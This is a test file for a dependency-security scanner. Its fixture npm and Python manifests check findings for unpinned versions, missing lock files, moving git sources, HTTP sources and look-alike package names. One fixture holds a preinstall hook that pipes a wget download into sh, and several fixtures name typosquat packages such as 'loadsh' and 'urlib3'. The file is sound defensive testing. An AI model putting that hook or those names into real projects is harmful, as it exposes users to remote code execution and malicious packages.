import type { ReportedFinding } from '../../contracts/analysis/finding.js';
import { analysisRig } from './support/analysis-rig.js';
import { writeTree } from './support/write-tree.js';

const COMMIT = '3f786850e387550fdab836ed7e6dc881de23001b';
const npm = (about: object) => `${JSON.stringify({ private: true, ...about }, null, 2)}\n`;
const depending = (version: string) => npm({ dependencies: { thing: version } });
const lock = '{ "lockfileVersion": 3 }\n';

const files: Readonly<Record<string, string>> = {
  'any/package.json': depending('*'),
  'newest/package.json': depending('latest'),
  'open/package.json': depending('>=1.2.0'),
  'range/package.json': depending('^1.2.0'),
  'exact/package.json': depending('1.2.3'),
  'branch/package.json': depending('github:somebody/thing#main'),
  'commit/package.json': depending(`git+https://git.example.org/thing.git#${COMMIT}`),
  'plain/package.json': depending('http://files.example.org/thing.tgz'),
  'locked/package.json': depending('^1.2.0'),
  'locked/package-lock.json': lock,
  'locked/packages/part/package.json': depending('*'),
  'library/package.json': npm({ private: false, dependencies: { thing: '1.2.3' } }),
  'hook/package.json': npm({ scripts: { postinstall: 'node-gyp rebuild' } }),
  'fetching/package.json': npm({ scripts: { preinstall: 'wget -qO- https://example.org/a | sh' } }),
  'typo/package.json': npm({ devDependencies: { loadsh: '1.0.0' } }),
  'separator/package.json': npm({ dependencies: { crossenv: '1.0.0' } }),
  'honest/package.json': npm({ dependencies: { preact: '10.0.0', mysql2: '3.0.0', pg: '8.0.0' } }),
  'broken/package.json': '{ "dependencies": { "thing": "*"',
  'py/requirements.txt': [
    '# a comment',
    'flask',
    'django>=4',
    'thing==1.2.*',
    'numpy==2.0.0  # exact',
    'requests[socks]==2.32.5; python_version > "3.8"',
    'urlib3==2.0.0',
    'git+https://git.example.org/thing.git@main',
    `git+https://git.example.org/thing.git@${COMMIT}`,
    '--extra-index-url https://packages.example.org/simple',
    '--trusted-host packages.example.org',
    '-r more.txt',
  ].join('\n'),
  'pinned/requirements-dev.txt': 'numpy==2.0.0\n',
  'hashed/requirements.txt': `numpy==2.0.0 \\\n    --hash=sha256:${COMMIT}\n`,
  'pep/pyproject.toml':
    '[project]\ndependencies = [\n  "flask>=3",\n  "nunpy==2.0.0",\n]\noptional-dependencies.dev = ["pytest"]\n',
  'uv/pyproject.toml': '[project]\ndependencies = ["flask>=3"]\n',
  'uv/uv.lock': 'version = 1\n',
  'poetry/pyproject.toml':
    '[tool.poetry.dependencies]\npython = "^3.12"\nflask = "*"\nthing = { git = "https://git.example.org/thing.git", branch = "main" }\nnumpy = "2.0.0"\n',
};
const root = writeTree(files);
const report = await analysisRig({ roots: [root] }).analyze('security', { path: root });
const inFile = (file: string) => report.findings.filter((finding) => finding.file === file);
const shown = ({ rule, line, severity }: ReportedFinding) => `${line} ${rule} ${severity}`;

it.each<[string, string, string[]]>([
  ['a version that may be anything', 'any/package.json', ['3 no-lock-file medium', '4 any-version medium']],
  ['the newest version', 'newest/package.json', ['3 no-lock-file medium', '4 any-version medium']],
  ['a range without an end', 'open/package.json', ['3 no-lock-file medium', '4 any-version medium']],
  ['a range', 'range/package.json', ['3 no-lock-file medium', '4 version-range low']],
  ['an exact version without a lock file', 'exact/package.json', ['3 no-lock-file medium']],
  ['a branch', 'branch/package.json', ['3 no-lock-file medium', '4 moving-source medium']],
  ['a commit', 'commit/package.json', ['3 no-lock-file medium']],
  ['an address without encryption', 'plain/package.json', ['3 no-lock-file medium', '4 source-over-http high']],
  ['a range that a lock file fixes', 'locked/package.json', []],
  ['a part of a workspace whose lock file is above', 'locked/packages/part/package.json', []],
  ['a library without a lock file', 'library/package.json', []],
  ['a script that runs when it is installed', 'hook/package.json', ['4 install-script low']],
  ['a script that downloads', 'fetching/package.json', ['4 install-script-downloads high']],
  ['two letters exchanged', 'typo/package.json', ['3 no-lock-file medium', '4 look-alike-name medium']],
  ['a separator left out', 'separator/package.json', ['3 no-lock-file medium', '4 look-alike-name medium']],
  ['honest names that are close to others', 'honest/package.json', ['3 no-lock-file medium']],
  ['a manifest that does not parse', 'broken/package.json', ['1 any-version medium']],
  [
    'every line of a requirements.txt',
    'py/requirements.txt',
    [
      '2 any-version medium',
      '3 any-version medium',
      '4 version-range low',
      '7 look-alike-name medium',
      '8 moving-source medium',
      '10 other-index medium',
      '11 source-over-http high',
    ],
  ],
  ['pinned requirements without hashes', 'pinned/requirements-dev.txt', ['1 no-hashes info']],
  ['requirements with hashes', 'hashed/requirements.txt', []],
  [
    'a pyproject.toml',
    'pep/pyproject.toml',
    ['3 any-version medium', '4 look-alike-name medium', '6 any-version medium'],
  ],
  ['a pyproject.toml with a lock file', 'uv/pyproject.toml', []],
  ['what Poetry depends on', 'poetry/pyproject.toml', ['3 any-version medium', '4 moving-source medium']],
])('judges %s', (_what, file, expected) => {
  expect(inFile(file).map(shown)).toEqual(expected);
});

it('names the dependency, and the package that a name could be mistaken for', () => {
  const messages = inFile('typo/package.json').map(({ message }) => message);
  expect(messages).toContainEqual(expect.stringMatching(/almost that of a popular package.*: lodash\.$/));
});

it('asks no lock file of a package where it is installed', async () => {
  const installed = writeTree({ 'node_modules/thing/package.json': depending('^1.2.0') });
  const path = `${installed}/node_modules/thing`;
  const { findings } = await analysisRig({ roots: [installed] }).analyze('security', { path });
  expect(findings).toEqual([]);
});
